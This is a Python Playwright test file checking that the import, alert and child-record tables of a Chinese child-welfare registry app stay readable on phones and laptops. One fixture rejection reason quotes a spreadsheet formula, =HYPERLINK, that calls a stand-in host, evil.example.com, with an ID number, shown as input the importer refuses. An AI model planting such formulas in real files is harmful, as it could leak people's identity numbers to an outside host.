"""Tables read on a 360-px phone: the import batch page, the import history, 待办预警 and the child's
file. Nothing widens the page sideways, no column shrinks to one character per line, long texts
(rejection reasons, addresses, alert messages) are read in full, and the buttons (已处理, 忽略,
结束) are on the screen and work. Turned to a laptop's width, the same tables are tables again.

The long names and texts are those of the demo walk: a county of ten characters, a rejection
reason quoting a formula with a URL, an alert message of some forty characters."""

from __future__ import annotations

import datetime
from dataclasses import dataclass
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from aixin.accounts.models import Role
from aixin.alerts.models import Alert, AlertKind, AlertStatus
from aixin.alerts.services import raise_alerts
from aixin.ingest.models import BatchStatus, DuplicateSuspect, ImportBatch, ImportRejection
from aixin.regions.models import RegionLevel
from aixin.regions.tree import create_region
from aixin.registry.models import ChildChange
from aixin.registry.rules import Condition
from tests import factories
from tests.browser import helpers
from tests.browser.conftest import log_in

# Fixtures, by name: the live server with the append-only triggers lifted only for the flush.
transactional_db = helpers.transactional_db
_restore_after_flush = helpers._restore_after_flush
browser_db = helpers.browser_db
shoot = helpers.shoot

# (column, reason) of the rejected rows, as the import engine words them.
REASONS = [
    ("公民身份号码", "身份证号被存成了数字，末几位已丢失（科学计数法），请将该列设为文本格式后重新填写"),
    (
        "村（居）委会",
        "村（社区）“兴马村”不唯一：酉阳土家族苗族自治县高坪镇兴马村（500240103205）、"
        "酉阳土家族苗族自治县白坪镇兴马村（500242102202），请填写区县、乡镇或村(社区)代码加以区分",
    ),
    (
        "备注",
        '“=HYPERLINK("http://evil.example.com/collect?id=500242201001011234")”以“=”开头，像是表格公式，'
        "未导入；如确为文字，请去掉开头的“=”",
    ),
    ("监护人联系电话", "监护人电话“13811112222/13933334444”格式不正确"),
    ("是否散居孤儿", "应填“是”或“否”，不能填“×”"),
]
LAPTOP = {"width": 1366, "height": 900}
ALERT_MESSAGE = "父母已返乡，不再符合留守儿童条件，建议核实后退出台账；民政数据显示该儿童已迁出"

# How many lines the text of an element takes (its own text: a label drawn by ::before is not
# part of it).
LINES = """(el) => {
  const range = document.createRange();
  range.selectNodeContents(el);
  const boxes = [...range.getClientRects()].filter((b) => b.width > 0 && b.height > 0)
    .sort((a, b) => a.top - b.top);
  let lines = 0, bottom = -Infinity;
  for (const b of boxes) {
    if (b.top >= bottom - 2) { lines += 1; bottom = b.bottom; } else { bottom = Math.max(bottom, b.bottom); }
  }
  return lines;
}"""

SCREEN_WIDTH = helpers.SCREEN_WIDTH

# Whether an element is on the screen from its left edge to its right edge without scrolling
# anything sideways: inside the screen and not cut by a box that scrolls or clips.
IN_VIEW_SIDEWAYS = f"""(el) => {{
  const box = el.getBoundingClientRect();
  if (box.left < -0.5 || box.right > {SCREEN_WIDTH} + 0.5) {{ return false; }}
  for (let p = el.parentElement; p && p !== document.body; p = p.parentElement) {{
    if (getComputedStyle(p).overflowX === "visible") {{ continue; }}
    const clip = p.getBoundingClientRect();
    if (box.left < clip.left - 0.5 || box.right > clip.right + 0.5) {{ return false; }}
  }}
  return true;
}}"""


def assert_in_view(locator: Any, what: str) -> None:
    # Not scrolled into view first: that would scroll a table's wrapper sideways, which is what
    # a user should not have to do. (Up and down does not change what is measured.)
    assert locator.evaluate(IN_VIEW_SIDEWAYS), f"{what} is (partly) off the screen sideways"


def assert_read_in_full(locator: Any, what: str) -> None:
    """On the screen, and its text wraps inside it instead of running out of it."""
    assert_in_view(locator, what)
    assert locator.evaluate("el => el.scrollWidth <= el.clientWidth + 1"), f"{what} runs out of its cell"


def lines(locator: Any) -> int:
    return int(locator.evaluate(LINES))


def assert_not_one_character_per_line(cells: Any, what: str) -> None:
    """Every cell of text of some length keeps three characters or more on a line (a squeezed CJK
    column breaks after every character). Cells of buttons and fields are checked by position."""
    for cell in cells.all():
        if cell.locator("button, summary, input, select").count():
            continue
        text = "".join(cell.inner_text().split())
        if len(text) >= 4:
            n = lines(cell)
            assert len(text) / n >= 3, f"{what}: “{text}” on {n} lines"


def assert_tables_on_a_laptop(page: Any, *selectors: str) -> None:
    """The same page on a laptop: the tables are tables again, with their headers, each fitting
    its card, headers on one line and no cell squeezed."""
    page.set_viewport_size(LAPTOP)
    for selector in selectors:
        table = page.locator(selector)
        expect(table.locator("thead")).to_be_visible()
        assert table.evaluate("t => getComputedStyle(t).display") == "table", selector
        wrap = table.locator("xpath=..")
        assert wrap.evaluate("w => w.scrollWidth <= w.clientWidth + 1"), f"{selector} scrolls on a laptop"
        for header in table.locator("th").all():
            if header.inner_text().strip():
                assert lines(header) == 1, header.inner_text()
        assert_not_one_character_per_line(table.locator("td"), f"{selector} on a laptop")
    helpers.assert_fits_phone(page)


@dataclass
class World:
    admin: Any
    county: Any
    village: Any
    batch: ImportBatch  # a dry run with rejected rows
    merged: ImportBatch  # a real import that found a suspected duplicate


@pytest.fixture
def world(browser_db: Any) -> World:
    """A county with the longest name of the demo, its admin, a dry run with rejected rows and an
    import that found a suspected duplicate."""
    tree = factories.make_tree()
    county = create_region(
        code="500242", name="酉阳土家族苗族自治县", level=RegionLevel.DISTRICT, parent=tree.city
    )
    town = create_region(code="500242101", name="云泉街道", level=RegionLevel.TOWN, parent=county)
    village = create_region(code="500242101201", name="大寺村", level=RegionLevel.VILLAGE, parent=town)
    admin = factories.make_user(Role.DISTRICT_ADMIN, county, "youyang")
    batch = ImportBatch.objects.create(
        source="civil_affairs",
        status=BatchStatus.DONE,
        dry_run=True,
        created_by=admin,
        scope=county,
        file_name="A_民政台账_messy_2026年11月第二次上报.xlsx",
        total_rows=50,
        unchanged_count=45,
        rejected_count=len(REASONS),
        finished_at=timezone.now(),
    )
    for n, (column, reason) in enumerate(REASONS, start=7):
        ImportRejection.objects.create(batch=batch, row_number=n * 7, column=column, reason=reason)
    merged = ImportBatch.objects.create(
        source="education",
        status=BatchStatus.DONE,
        created_by=admin,
        scope=county,
        file_name="B_教育在校情况.csv",
        total_rows=1,
        created_count=1,
        suspect_count=1,
        finished_at=timezone.now(),
    )
    born = datetime.date(2014, 7, 8)
    older, newer = (factories.make_child(village, name=name, birth=born) for name in ("田想", "田湘"))
    DuplicateSuspect.objects.create(batch=merged, child=newer, other=older, district=county)
    return World(admin=admin, county=county, village=village, batch=batch, merged=merged)


def test_a_dry_runs_batch_page_fits_a_phone_and_every_rejection_reason_is_read_in_full(
    world: World, browser_db: Any, phone_page: Any, shoot: list[Any]
) -> None:
    page = phone_page
    shoot.append(page)
    log_in(page, browser_db, world.admin.username, factories.PASSWORD)
    page.goto(f"{browser_db.url}/imports/{world.batch.pk}/")

    notice = page.locator("#dry-run-notice")
    expect(notice).to_have_text("试导入：只检查文件，没有写入台账。检查无误后，请取消勾选“试导入”再上传。")
    assert_read_in_full(notice, "the dry-run notice")
    helpers.assert_fits_phone(page)

    table = page.locator("#rejection-rows")
    expect(table.locator("tbody tr")).to_have_count(len(REASONS))
    # On a phone each rejected row is a block of labelled fields, the reason across the width.
    expect(table.locator("thead")).to_be_hidden()
    for n, (_column, reason) in enumerate(REASONS):
        row = table.locator("tbody tr").nth(n)
        cells = row.locator("td")
        assert cells.nth(0).inner_text() == str((n + 7) * 7)
        assert_in_view(cells.nth(0), f"row {n}'s number")
        assert_in_view(cells.nth(1), f"row {n}'s column")
        assert_read_in_full(cells.nth(2), f"the reason of row {n}")
        assert "".join(cells.nth(2).inner_text().split()) == "".join(reason.split())
    assert_not_one_character_per_line(table.locator("td"), "rejected rows")

    # An import's suspected duplicate: both records, masked ID numbers and all.
    page.goto(f"{browser_db.url}/imports/{world.merged.pk}/")
    suspects = page.locator("#suspect-rows tbody td")
    expect(suspects).to_have_count(3)
    for cell in suspects.all():
        assert_read_in_full(cell, "a suspected duplicate's record")
    helpers.assert_fits_phone(page)

    assert_tables_on_a_laptop(page, "#suspect-rows")
    page.go_back()
    assert_tables_on_a_laptop(page, "#rejection-rows")


def test_the_import_history_shows_every_count_of_a_batch_on_a_phone(
    world: World, browser_db: Any, phone_page: Any, shoot: list[Any]
) -> None:
    page = phone_page
    shoot.append(page)
    log_in(page, browser_db, world.admin.username, factories.PASSWORD)
    page.goto(f"{browser_db.url}/imports/")

    row = page.locator(f"#batches tr[data-batch='{world.batch.pk}']")
    expect(row).to_contain_text("A_民政台账_messy_2026年11月第二次上报.xlsx")
    for label, value in (("新增", "0"), ("更新", "0"), ("未变化", "45"), ("拒绝", "5"), ("疑似重复", "0")):
        cell = row.locator(f"td[data-label='{label}']")
        expect(cell).to_have_text(value)
        assert_in_view(cell, f"the count {label}")
    assert_in_view(row.get_by_text("民政", exact=True), "the source")
    assert_in_view(row.get_by_text("youyang", exact=True), "who uploaded it")
    assert_not_one_character_per_line(row.locator("td"), "the import history")
    helpers.assert_fits_phone(page)

    assert_tables_on_a_laptop(page, "#batches")
    row.get_by_role("link").click()  # the time opens the batch
    expect(page.locator("#rejection-rows")).to_be_visible()


def test_alerts_on_a_phone_keep_addresses_readable_and_their_handle_buttons_on_screen(
    world: World, browser_db: Any, phone_page: Any, shoot: list[Any]
) -> None:
    children = [factories.make_child(world.village, name=name) for name in ("周凯", "郑波", "安岩")]
    raise_alerts(AlertKind.CLOSE_PROPOSAL, children, lambda c: ALERT_MESSAGE)
    page = phone_page
    shoot.append(page)
    log_in(page, browser_db, world.admin.username, factories.PASSWORD)
    page.goto(f"{browser_db.url}/alerts/?kind=close_proposal")

    rows = page.locator("#alerts tbody tr")
    expect(rows).to_have_count(3)
    helpers.assert_fits_phone(page)
    for n in range(3):
        row = rows.nth(n)
        address = row.locator("td[data-label='住址']")
        expect(address).to_have_text("酉阳土家族苗族自治县 云泉街道 大寺村")
        assert_read_in_full(address, "the address")
        assert lines(address) <= 2
        assert_read_in_full(row.locator("td[data-label='内容']"), "the message")
        for button in ("已处理", "忽略"):
            assert_in_view(row.get_by_text(button, exact=True), f"the {button} button")
    assert_not_one_character_per_line(page.locator("#alerts td"), "alerts")

    first = rows.first
    name = first.get_by_role("link").inner_text()
    first.get_by_text("已处理", exact=True).click()
    field = first.get_by_label("处理说明")
    assert_in_view(field, "the resolution field")
    field.fill("已与民政核实，已退出台账")
    submit = first.get_by_role("button", name="标记为已处理")
    assert_in_view(submit, "the submit button")
    helpers.assert_fits_phone(page)
    submit.click()
    expect(page.locator(".messages")).to_contain_text(f"已处理儿童{name}的预警：建议退出台账")
    expect(rows).to_have_count(2)
    assert Alert.objects.filter(status=AlertStatus.RESOLVED).count() == 1
    assert_tables_on_a_laptop(page, "#alerts")


def test_the_child_file_on_a_phone_shows_its_open_alert_history_and_the_end_date_field(
    world: World, browser_db: Any, phone_page: Any, shoot: list[Any]
) -> None:
    today = datetime.date.today()
    away = today - datetime.timedelta(days=400)
    child = factories.make_child(
        world.village,
        name="向春燕",
        birth=today.replace(year=today.year - 18) + datetime.timedelta(days=21),
        conditions=[Condition(parent="father", kind="working_away", started_on=away)],
    )
    raise_alerts(
        AlertKind.HANDOVER,
        [child],
        lambda c: "将于三周后年满18周岁，请提前做好移交成长爱护人的准备",
        due_on=today + datetime.timedelta(days=21),
    )
    for field, old, new in (
        ("school_stage", "初中", "辍学"),
        ("grade", "初一", "三年级(2)班"),
        ("school", "云泉街道中学", "酉阳土家族苗族自治县云泉中心校"),
    ):
        ChildChange.objects.create(
            child=child,
            field=field,
            old_value=old,
            new_value=new,
            source="education",
            batch=world.batch,
            changed_by=world.admin,
            reason="教育数据导入",
        )
    page = phone_page
    shoot.append(page)
    log_in(page, browser_db, world.admin.username, factories.PASSWORD)
    page.goto(f"{browser_db.url}/children/{child.pk}/")

    alerts = page.locator("#child-alerts")
    expect(alerts).to_contain_text("即将年满18周岁，需移交")
    expect(alerts).to_contain_text("将于三周后年满18周岁")
    assert_in_view(alerts.get_by_text("已处理", exact=True), "the alert's 已处理 button")
    helpers.assert_fits_phone(page)

    history = page.locator("#child-changes")
    expect(history.locator("tbody tr")).to_have_count(3)
    assert_not_one_character_per_line(history.locator("td"), "the change history")
    assert_read_in_full(history.get_by_text("酉阳土家族苗族自治县云泉中心校"), "the new school")

    conditions = page.locator("#parent-conditions")
    assert_not_one_character_per_line(conditions.locator("td"), "the parent conditions")
    date = conditions.get_by_label("结束日期")
    assert_in_view(date, "the end date field")
    end = conditions.get_by_role("button", name="结束")
    assert_in_view(end, "the 结束 button")
    date.fill(today.isoformat())
    end.click()
    expect(page.locator(".messages")).to_contain_text("父母情形已结束")
    expect(page.locator("#parent-conditions")).to_contain_text(f"~ {today.isoformat()}")
    helpers.assert_fits_phone(page)
    assert_tables_on_a_laptop(page, "#guardians", "#parent-conditions", "#child-changes")
